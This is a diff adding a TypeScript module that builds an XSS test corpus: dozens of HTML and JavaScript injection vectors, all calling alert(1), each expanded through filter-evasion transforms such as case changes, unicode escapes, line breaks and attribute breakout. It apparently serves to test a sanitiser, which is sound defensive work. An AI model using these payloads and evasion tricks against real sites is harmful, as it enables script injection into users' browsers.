@@ -1,0 +1,62 @@
+/** Texts that would run a script, were they ever taken for HTML: vectors, each in several disguises. All call alert. */
+const VECTORS = [
+  '<script>alert(1)</script>',
+  '<script src="data:text/javascript,alert(1)"></script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror="alert(1)" />',
+  '<img/src/onerror=alert(1)>',
+  '<img src="x`" `onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><set onbegin=alert(1) attributeName=x to=y>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
+  '<body onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<form action="javascript:alert(1)"><input type=submit autofocus onfocus=alert(1)></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)></select>',
+  '<textarea autofocus onfocus=alert(1)></textarea>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video src=x onerror=alert(1)></video>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)></audio>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
+  '<link rel=stylesheet href="javascript:alert(1)">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<title></title><img src=x onerror=alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  "'-alert(1)-'",
+  '</script><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<p onpointerover=alert(1) onmouseenter=alert(1)>x</p>',
+  '{{constructor.constructor("alert(1)")()}}',
+] as const;
+
+/** How filters are got around: letters' case, entities, breaks, a wrapping element, an opened attribute. */
+const DISGUISES: readonly ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) =>
+    vector.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${name[0].toUpperCase()}${name.slice(1)}`),
+  (vector) => vector.replaceAll('alert', 'al\\u0065rt').replaceAll("al\\u0065rt(1)'", "alert(1)'"),
+  (vector) => vector.replace(/ on/g, '\n\ton'),
+  (vector) => `<div>${vector}</div>`,
+  (vector) => `x" data-x="${vector}`,
+];
+
+export const XSS_CORPUS: readonly string[] = [
+  ...new Set(VECTORS.flatMap((vector) => DISGUISES.map((disguise) => disguise(vector)))),
+];
